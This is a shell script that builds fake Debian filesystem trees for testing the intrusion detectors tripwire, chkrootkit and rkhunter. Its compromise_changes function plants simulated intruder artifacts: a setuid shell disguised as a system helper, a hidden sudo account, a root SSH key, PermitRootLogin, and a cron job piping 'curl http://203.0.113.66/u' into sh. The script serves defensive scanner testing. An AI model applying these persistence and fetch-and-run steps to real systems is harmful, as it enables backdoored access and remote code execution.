# roots.sh - sourced by ../generate: build and change the small fake system
# trees ("roots") that tripwire, chkrootkit and rkhunter inspect.  A root is
# a directory laid out like a Debian 12 host that was upgraded from an older
# release (so /bin, /sbin are real directories, not usr-merge symlinks), with
# copies of some of the build machine's real binaries.

# copy_with_libs FILE ROOT [DEST]: copy a binary and the libraries ldd names
copy_with_libs() {
  local f=$1 root=$2 dest=${3:-$1} lib
  mkdir -p "$root$(dirname "$dest")"
  cp -a "$(readlink -f "$f")" "$root$dest"
  for lib in $(ldd "$f" 2>/dev/null | grep -o '/[^ ]*'); do
    [ -e "$root$lib" ] && continue
    mkdir -p "$root$(dirname "$lib")"
    cp -L "$lib" "$root$lib"
  done
}

# make_root HOST ADDR DOMAIN DIR
make_root() {
  local host=$1 addr=$2 domain=$3 r=$4 b
  rm -rf "$r"; mkdir -p "$r"
  mkdir -p "$r"/{home/oskar,bin,sbin,usr/bin,usr/sbin,usr/lib,etc/ssh,etc/cron.d,etc/cron.daily,root,tmp,dev}
  mkdir -p "$r"/var/{log/apache2,run,lock,lib/tripwire/report,spool/cron/crontabs,tmp}
  chmod 1777 "$r/tmp" "$r/var/tmp"
  for b in ls ps login su mount umount netstat ss cat cp dash bash grep sed tar gzip kill df chown chmod date hostname; do
    [ -e "/usr/bin/$b" ] && cp -L --preserve=mode,ownership,timestamps "/usr/bin/$b" "$r/bin/$b"
  done
  ln -sf dash "$r/bin/sh"
  for b in passwd chsh chfn gpasswd newgrp sudo crontab ssh scp find top w who last pkill pgrep du strings id awk; do
    [ -e "/usr/bin/$b" ] && cp -a "$(readlink -f /usr/bin/$b)" "$r/usr/bin/$b"
  done
  for b in sshd cron useradd usermod ifconfig rsyslogd; do
    [ -e "/usr/sbin/$b" ] && cp -L --preserve=mode,ownership,timestamps "/usr/sbin/$b" "$r/usr/sbin/$b"
  done
  for b in getty agetty ip; do
    for d in /usr/sbin /usr/bin; do
      if [ -e "$d/$b" ]; then cp -L --preserve=mode,ownership,timestamps "$d/$b" "$r/sbin/$b"; break; fi
    done
  done
  cat > "$r/etc/passwd" <<P
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
oskar:x:1000:1000:Oskar,,,:/home/oskar:/bin/bash
P
  cat > "$r/etc/shadow" <<P
root:\$y\$j9T\$Qv0mR8n1UUk0bXU1aPq3b.\$3Cq8qY2m3gN0u2Xk3tq4fZbH1kqkq8w9rJbZr5yJ3Z0:20300:0:99999:7:::
daemon:*:20300:0:99999:7:::
bin:*:20300:0:99999:7:::
sys:*:20300:0:99999:7:::
www-data:*:20300:0:99999:7:::
nobody:*:20300:0:99999:7:::
sshd:*:20300:0:99999:7:::
oskar:\$y\$j9T\$2a0b1c2d3e4f5g6h7i8j9.\$kq1Zs2p3o4i5u6y7t8r9e0w1q2a3s4d5f6g7h8j9k0l:20300:0:99999:7:::
P
  chmod 640 "$r/etc/shadow"
  printf 'root:x:0:\nsudo:x:27:oskar\noskar:x:1000:\n' > "$r/etc/group"
  printf '127.0.0.1\tlocalhost\n%s\t%s.%s %s\n' "$addr" "$host" "$domain" "$host" > "$r/etc/hosts"
  printf 'hosts: files\npasswd: files\ngroup: files\n' > "$r/etc/nsswitch.conf"
  echo "$host" > "$r/etc/hostname"
  printf 'Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\nSubsystem\tsftp\t/usr/lib/openssh/sftp-server\n' > "$r/etc/ssh/sshd_config"
  printf 'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n' > "$r/etc/crontab"
  printf '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n' > "$r/etc/cron.daily/logrotate"
  chmod 755 "$r/etc/cron.daily/logrotate"
  printf '# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS="--color=auto"\n' > "$r/root/.bashrc"
  printf '# ~/.profile: executed by Bourne-compatible login shells.\nmesg n 2> /dev/null || true\n' > "$r/root/.profile"
  printf 'apt update\napt upgrade\nsystemctl status smbd\n' > "$r/root/.bash_history"
  chmod 700 "$r/root"
  for f in syslog auth.log kern.log mail.log dpkg.log apache2/access.log apache2/error.log; do
    printf 'Nov 19 06:25:01 %s CRON[1200]: (root) CMD (test -x /usr/sbin/anacron)\n' "$host" > "$r/var/log/$f"
  done
  printf '%s\n' 611 > "$r/var/run/sshd.pid"
  printf '%s\n' 455 > "$r/var/run/crond.pid"
  printf '%s\n' 512 > "$r/var/run/rsyslogd.pid"
  : > "$r/var/lock/apache2.lock"
  : > "$r/var/log/wtmp"; : > "$r/var/log/lastlog"; : > "$r/var/log/btmp"; : > "$r/var/run/utmp"
}

# noise_changes ROOT: what a normal night does (logrotate, daemon restarts, an admin shell)
noise_changes() {
  local r=$1 f
  for f in syslog auth.log kern.log mail.log; do
    mv "$r/var/log/$f" "$r/var/log/$f.1"
    printf 'Nov 21 00:00:03 x rsyslogd: rsyslogd was HUPed\n' > "$r/var/log/$f"
  done
  gzip -9 < "$r/var/log/dpkg.log" > "$r/var/log/dpkg.log.1.gz"; : > "$r/var/log/dpkg.log"
  printf 'Nov 21 06:25:03 upgrade tzdata 2024a-0+deb12u1 2025b-0+deb12u1\n' >> "$r/var/log/dpkg.log"
  mv "$r/var/log/apache2/access.log" "$r/var/log/apache2/access.log.1"; : > "$r/var/log/apache2/access.log"
  printf '%s\n' 4711 > "$r/var/run/sshd.pid.new" && mv "$r/var/run/sshd.pid.new" "$r/var/run/sshd.pid"
  printf '%s\n' 4790 > "$r/var/run/rsyslogd.pid.new" && mv "$r/var/run/rsyslogd.pid.new" "$r/var/run/rsyslogd.pid"
  printf '%s\n' 4802 > "$r/var/run/apache2.pid"
  rm -f "$r/var/lock/apache2.lock"; : > "$r/var/lock/apache2.lock"
  printf 'less /var/log/syslog\nsystemctl restart ssh\n' >> "$r/root/.bash_history"
  printf '.less-history-file:\n.search\n"error\n' > "$r/root/.lesshst"
}

# compromise_changes ROOT: an intruder's work (trojaned ls/ps, setuid backdoor,
# new uid-0-capable account, root ssh key, cron persistence, sshd_config)
compromise_changes() {
  local r=$1
  # trojaned ls and ps: strings that chkrootkit knows from t0rn / lrk kits
  printf '\0/dev/ttyof\0/dev/hdl0\0/usr/lib/libsh/.sniff\0' >> "$r/bin/ls"
  printf '\0/dev/xmx\0/dev/ttyop\0' >> "$r/bin/ps"
  # setuid-root copy of a shell, named like a system helper
  cp "$r/bin/dash" "$r/usr/bin/dbus-daemon-helper"; chmod 4755 "$r/usr/bin/dbus-daemon-helper"
  # rootkit droppings in places the scanners look at
  mkdir -p "$r/usr/lib/libsh" "$r/dev/.hdlc" "$r/tmp/..."
  printf 'alias ls="ls --hide=.sniff"\n' > "$r/usr/lib/libsh/.bashrc"
  printf 'eth0\n' > "$r/dev/.hdlc/.rk"
  # accounts
  # (useradd/usermod write a new file and rename it over the old one)
  { cat "$r/etc/passwd"; echo 'systemd-bus:x:1003:1003::/var/lib/systemd-bus:/bin/bash'; } > "$r/etc/passwd+"
  { cat "$r/etc/shadow"; echo 'systemd-bus:$y$j9T$Zt7x8w9v0u1t2s3r4q5p6.$aB3cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5a6b7:20413:0:99999:7:::'; } > "$r/etc/shadow+"
  { sed 's/^sudo:x:27:oskar$/sudo:x:27:oskar,systemd-bus/' "$r/etc/group"; echo 'systemd-bus:x:1003:'; } > "$r/etc/group+"
  chmod 644 "$r/etc/passwd+" "$r/etc/group+"; chmod 640 "$r/etc/shadow+"
  for f in passwd shadow group; do cp -p "$r/etc/$f" "$r/etc/$f-"; mv "$r/etc/$f+" "$r/etc/$f"; done
  mkdir -p "$r/root/.ssh"; chmod 700 "$r/root/.ssh"
  echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk1d0cVbWx0b3RhbGx5bm90YW5hdHRhY2tlcmtleQ x@localhost' > "$r/root/.ssh/authorized_keys"
  printf '*/10 * * * * root /usr/bin/dbus-daemon-helper -c "curl -s http://203.0.113.66/u | sh" >/dev/null 2>&1\n' > "$r/etc/cron.d/dbus-update"
  sed -i '1i PermitRootLogin yes' "$r/etc/ssh/sshd_config"
  printf 'wget http://203.0.113.66/k.tgz\ntar xzf k.tgz\n./install.sh\n' >> "$r/root/.bash_history"
  # and the night's ordinary churn
  printf '%s\n' 5120 > "$r/var/run/sshd.pid.new" && mv "$r/var/run/sshd.pid.new" "$r/var/run/sshd.pid"
  printf 'Nov 21 04:51:17 x sshd[5133]: Accepted password for root from 203.0.113.66\n' >> "$r/var/log/auth.log"
}
